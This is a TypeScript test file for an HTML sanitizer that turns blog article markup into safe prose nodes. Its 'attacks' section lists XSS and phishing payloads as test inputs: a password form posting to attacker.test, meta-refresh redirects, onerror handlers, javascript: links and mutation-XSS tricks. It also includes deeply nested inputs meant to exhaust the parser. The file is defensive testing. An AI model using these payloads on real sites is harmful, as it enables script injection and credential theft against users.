import { describe, expect, test } from "vitest";
import type { ProseNode } from "#domain/blogs/prose.ts";
import { attacks } from "../../../tests/support/markdown-attacks.ts";
import { articleProse } from "./article-prose.ts";

const BASE = "https://press.test/2026/jackets";
const read = (html: string) => articleProse(html, BASE) ?? [];

/** Writes nodes as people write them, without escaping. */
const written = (nodes: readonly ProseNode[]): string =>
  nodes
    .map((node) => {
      if (typeof node === "string") return node;
      const props = Object.entries(node.props ?? {}).map(([name, value]) => ` ${name}="${value}"`);
      return `<${node.tag}${props.join("")}>${written(node.children ?? [])}${node.children ? `</${node.tag}>` : ""}`;
    })
    .join("");

const shown = (html: string) => written(read(html)).replaceAll(' rel="noopener noreferrer nofollow"', "");

const elements = (nodes: readonly ProseNode[]): Exclude<ProseNode, string>[] =>
  nodes.flatMap((node) => (typeof node === "string" ? [] : [node, ...elements(node.children ?? [])]));

test("an article keeps what it means", () => {
  expect(shown("<div>One<br>two</div><div><p>Three</p>four <b>five</b></div>")).toBe(
    "<p>One<br>two</p><p>Three</p><p>four <strong>five</strong></p>",
  );
  expect(shown("<ul> <li>a</li><li><p>b</p></li></ul><blockquote>c</blockquote><hr>")).toBe(
    "<ul><li>a</li><li><p>b</p></li></ul><blockquote><p>c</p></blockquote><hr>",
  );
  expect(shown("<table> <tr> <th>a</th><td align=right>1</td></tr></table>")).toBe(
    '<table><tbody><tr><th>a</th><td data-align="right">1</td></tr></tbody></table>',
  );
  expect(shown("&lt;p&gt;Escaped twice&lt;/p&gt;")).toBe("<p>Escaped twice</p>");
  expect(articleProse("No tags, 1 < 2 & more", BASE)).toBe(null);
});

test("headings are below that of the page, and leave no level out", () => {
  expect(shown("<h3>a</h3><h1>b</h1><h6>c</h6>")).toBe("<h2>a</h2><h2>b</h2><h3>c</h3>");
});

test("links start from the article, and vouch for nobody", () => {
  expect(read('<a href="/sale?a=1#b" target=_top title=x>Sale</a>')).toEqual([
    {
      tag: "p",
      children: [
        {
          tag: "a",
          props: { href: "https://press.test/sale?a=1#b", rel: "noopener noreferrer nofollow" },
          children: ["Sale"],
        },
      ],
    },
  ]);
  expect(shown("<a href=https://u:p@a.test>x</a> <a href=ftp://a.test>y</a>")).toBe("<p>x y</p>");
});

test("images are not loaded, and those that only count readers are left out", () => {
  expect(
    shown('<img src=/a.jpg alt="Five jackets" onerror=x><img src=https://t.test/p.gif width=1 height=1>'),
  ).toBe('<p><a href="https://press.test/a.jpg">Image: Five jackets</a></p>');
  expect(shown("<a href=https://a.test><img src=b.png alt=Boots></a><img src=data:image/png,x alt=c>")).toBe(
    '<p><a href="https://a.test/">Image: Boots</a>Image: c</p>',
  );
});

test("no browser has to move an element elsewhere", () => {
  expect(shown("<p>a<button><p>b</p></button></p>")).not.toMatch(/<p>[^]*<p>[^]*<\/p><\/p>/);
  expect(shown("<a href=//a.test>x<object><a href=//b.test>y</a></object></a>")).not.toMatch(/<a [^]*<a /);
  expect(shown("<h2>a<div>b</div></h2>")).toBe("<h2>a b </h2>");
  expect(shown("<b>a<p>c</p></b>")).toBe("<p>a</p><p>c</p>");
});

describe("attacks", () => {
  const TAGS = new Set(
    "h2 h3 h4 h5 h6 p blockquote pre hr br ul ol li table tbody tr th td a em strong del code sup".split(" "),
  );
  const PROPS = new Set(["href", "rel", "start", "data-align"]);
  const more = [
    "<form action=https://attacker.test><input name=password><button>Sign in</button></form>",
    "<base href=https://attacker.test/><meta http-equiv=refresh content='0;url=https://attacker.test'>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe><object data=x></object><embed src=x>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://attacker.test/x.css>",
    "<svg><script>pwned()</script><a xlink:href=javascript:pwned()>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<p style='position:fixed;inset:0' class=btn id=main name=x data-x=y contenteditable popover>x</p>",
    "<template><script>pwned()</script></template><textarea><script>pwned()</script></textarea>",
  ];

  test("leave only elements, attributes, and links from the list", () => {
    for (const text of [...attacks.map((attack) => attack.text), ...more])
      for (const { tag, props = {} } of elements(read(text))) {
        expect(TAGS, text).toContain(tag);
        for (const name of Object.keys(props)) expect(PROPS, text).toContain(name);
        if (props.href !== undefined) expect(props.href, text).toMatch(/^(?:https?|mailto):/);
        if (tag === "a") expect(props.rel, text).toBe("noopener noreferrer nofollow");
      }
  });

  test("the text of scripts and styles is not shown, and that of a form is", () => {
    expect(shown("<script>a()</script><style>b{}</style><form>c<input value=d></form>")).toBe("<p>c</p>");
  });

  test("an article that is nested or long without measure ends in time", () => {
    const depth = (nodes: readonly ProseNode[]): number =>
      Math.max(0, ...nodes.map((node) => (typeof node === "string" ? 0 : 1 + depth(node.children ?? []))));
    for (const text of [
      "<blockquote>".repeat(1000),
      "<div>".repeat(30_000),
      `<p>${Array.from({ length: 9000 }, (_, index) => `<b c=${index}>`).join("")}${"<p>x".repeat(25_000)}`,
      "<b><i><u><s><tt><em><code>".repeat(3) + "<p>x".repeat(40_000),
      "<br>".repeat(50_000),
    ])
      expect(depth(read(text))).toBeLessThan(70);
  });
});
